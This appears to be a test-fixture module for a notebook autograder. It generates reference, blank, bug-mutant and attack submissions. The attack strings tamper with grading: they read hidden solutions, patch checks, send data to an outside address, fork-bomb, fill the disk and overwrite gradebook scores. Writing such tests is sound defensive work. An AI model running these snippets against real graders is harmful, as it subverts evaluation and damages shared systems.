@@ -1,0 +1,205 @@
+"""Sample submissions for the demo and the end-to-end tests: honest, buggy and hostile.
+
+For each homework: the **reference** (the instructor's source notebook: every answer is the reference
+solution), the **blank** release, **mutants** (one plausible bug in one answer cell each, so they
+lose exactly that task's points) and **attacks** (the reference with one answer cell turned into an
+attempt on the grader: reading the hidden tests or the reference from disk, patching the checks,
+IPython hooks, stack frames, the network, a fork bomb, filling the disk, killing the process, writing
+its own score into the gradebook). An attack must cost the attacked task and nothing else, and put
+the submission on the review list.
+"""
+
+from __future__ import annotations
+
+import copy
+from dataclasses import dataclass
+from typing import NamedTuple
+
+import nbformat
+
+from .build import REPO, load_spec
+
+__all__ = ["ATTACKED_CELL", "ATTACKS", "MUTANTS", "Mutant", "Sample", "samples"]
+
+
+class Mutant(NamedTuple):
+    """One bug: in answer cell ``cell``, ``old`` (text of the reference answer) becomes ``new``."""
+
+    student: str
+    cell: str
+    old: str
+    new: str
+    points: int  # the points of that task: what the mutant must lose
+
+
+MUTANTS: dict[str, list[Mutant]] = {
+    "hw1": [
+        Mutant("mutant_gd_sign", "gradient_descent", "w -= lr * grad", "w += lr * grad", 2),
+        Mutant(
+            "mutant_ne_ridge",
+            "normal_equation",
+            "A = X.T @ X ",
+            "A = X.T @ X + torch.eye(d) ",
+            1,
+        ),
+    ],
+    "hw2": [
+        Mutant(
+            "mutant_mlp_ascent", "MLPRegressor", "p.add_(g, alpha=-lr)", "p.add_(g, alpha=lr)", 3
+        ),
+        Mutant(
+            "mutant_relu_in_place",
+            "ReLU",
+            "self.out = x.clamp(min=0)",
+            "self.out = x.clamp_(min=0)",
+            1,
+        ),
+    ],
+    "hw3": [
+        Mutant(
+            "mutant_adam_no_correction",
+            "Adam",
+            "bias_correction1 = 1 - beta1**t",
+            "bias_correction1 = 1.0",
+            2,
+        ),
+        Mutant(
+            "mutant_warmup_off_by_one",
+            "linear_warmup",
+            "min(step, warmup_steps) / warmup_steps",
+            "min(step + 1, warmup_steps) / warmup_steps",
+            1,
+        ),
+    ],
+    "hw4": [
+        Mutant(
+            "mutant_re_mean", "relative_error", "/ denominator).max())", "/ denominator).mean())", 1
+        ),
+        Mutant(
+            "mutant_gc_atol_only",
+            "gradcheck",
+            "allowed = atol + rtol * numeric.abs()",
+            "allowed = atol + 0 * numeric.abs()",
+            3,
+        ),
+    ],
+}
+
+
+# An attack is code put at the top of one answer cell of the reference (it runs when the cell runs).
+ATTACKS: dict[str, str] = {
+    "attack_read_files": (
+        "import glob\n"
+        "_loot = {p: open(p).read() for p in glob.glob('/**/*.py', recursive=True)\n"
+        "         if 'solutions' in p or 'source' in p}\n"
+    ),
+    "attack_patch_checks": (
+        "import autograder.checks as _checks\n"
+        "_checks.compare = lambda *args, **kwargs: None\n"
+        "_checks.Check.verdict = lambda self, *args, **kwargs: _checks.passed()\n"
+    ),
+    "attack_ipython_hook": (
+        "_ip = get_ipython()\n"
+        "_ip.ast_transformers.clear()\n"
+        "_ip.events.register('post_run_cell', lambda result: None)\n"
+    ),
+    "attack_stack_frames": (
+        "import sys\n"
+        "def _expected():\n"
+        "    frame = sys._getframe(1)\n"
+        "    while frame is not None:\n"
+        "        if 'expected' in frame.f_locals:\n"
+        "            return frame.f_locals['expected']\n"
+        "        frame = frame.f_back\n"
+    ),
+    "attack_network": (
+        "import socket\n"
+        "try:\n"
+        "    socket.create_connection(('10.1.2.3', 80), timeout=2).sendall(b'my answers')\n"
+        "except OSError:\n"
+        "    pass\n"
+    ),
+    "attack_fork_bomb": (
+        "import os, time\n"
+        "while True:\n"
+        "    try:\n"
+        "        if os.fork() == 0:  # each child holds a process slot for a while\n"
+        "            time.sleep(5)\n"
+        "            os._exit(0)\n"
+        "    except OSError:  # the process limit: the bomb is defused\n"
+        "        break\n"
+    ),
+    "attack_fill_disk": (
+        "_block = b'x' * (1 << 20)\n"
+        "try:\n"
+        "    with open('/tmp/fill', 'wb') as _f:\n"
+        "        while True:\n"
+        "            _f.write(_block)\n"
+        "except OSError:\n"
+        "    pass\n"
+    ),
+    "attack_exit": "import os\nos._exit(0)\n",
+    "attack_write_score": (
+        "import sqlite3, glob\n"
+        "for _db in glob.glob('/**/gradebook.db', recursive=True):\n"
+        "    sqlite3.connect(_db).execute('update grade set auto_score = max_score')\n"
+    ),
+}
+
+# the answer cell each homework's attacks go into (a task that no other task's answer calls)
+ATTACKED_CELL = {
+    "hw1": "normal_equation",
+    "hw2": "MLPRegressor",
+    "hw3": "step_decay",
+    "hw4": "gradcheck",
+}
+
+
+@dataclass(frozen=True)
+class Sample:
+    student: str
+    notebook: nbformat.NotebookNode
+    expected: str  # "full", "zero", or the task that loses its points
+
+
+def _source(homework: str) -> nbformat.NotebookNode:
+    assignment = load_spec(homework).assignment
+    return nbformat.read(REPO / "assignments" / assignment / f"{assignment}.ipynb", as_version=4)
+
+
+def _cell(nb, grade_id: str):
+    for cell in nb.cells:
+        if cell.metadata.get("nbgrader", {}).get("grade_id") == grade_id:
+            return cell
+    raise KeyError(f"no cell {grade_id}")
+
+
+def mutant_notebook(homework: str, mutant: Mutant) -> nbformat.NotebookNode:
+    nb = copy.deepcopy(_source(homework))
+    cell = _cell(nb, mutant.cell)
+    if mutant.old not in cell.source:
+        raise ValueError(f"{mutant.student}: {mutant.old!r} is not in the answer {mutant.cell}")
+    cell.source = cell.source.replace(mutant.old, mutant.new, 1)
+    return nb
+
+
+def attack_notebook(homework: str, attack: str) -> nbformat.NotebookNode:
+    nb = copy.deepcopy(_source(homework))
+    cell = _cell(nb, ATTACKED_CELL[homework])
+    cell.source = ATTACKS[attack] + "\n" + cell.source
+    return nb
+
+
+def samples(homework: str, release: nbformat.NotebookNode) -> list[Sample]:
+    """Every sample submission of ``homework``; ``release`` is the student version (the blank)."""
+    out = [
+        Sample("reference", _source(homework), "full"),
+        Sample("blank", copy.deepcopy(release), "zero"),
+    ]
+    out += [
+        Sample(m.student, mutant_notebook(homework, m), m.cell) for m in MUTANTS.get(homework, [])
+    ]
+    out += [
+        Sample(name, attack_notebook(homework, name), ATTACKED_CELL[homework]) for name in ATTACKS
+    ]
+    return out
